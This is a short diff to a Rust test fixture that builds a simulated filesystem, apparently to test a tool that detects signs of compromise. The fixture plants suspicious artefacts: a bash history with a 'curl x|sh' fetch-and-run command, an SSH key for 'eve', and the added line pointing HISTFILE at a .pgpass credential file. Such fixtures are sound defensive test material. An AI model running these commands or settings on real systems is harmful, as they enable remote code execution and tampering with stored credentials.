@@ -29,6 +29,7 @@ fn machine() -> Pretend {
         .link("/etc/localtime", "/usr/share/zoneinfo/UTC")
         .file("/usr/share/zoneinfo/UTC", "TZif")
         .file("/home/u/.bash_history", "id\ncurl x|sh\n")
+        .file("/home/u/.bashrc", "HISTFILE=~/.pgpass\n")
         .file("/home/u/.ssh/authorized_keys", "ssh-ed25519 AAAA eve\n")
         .file(odd, "odd")
         .file("/tmp/pipe", "")
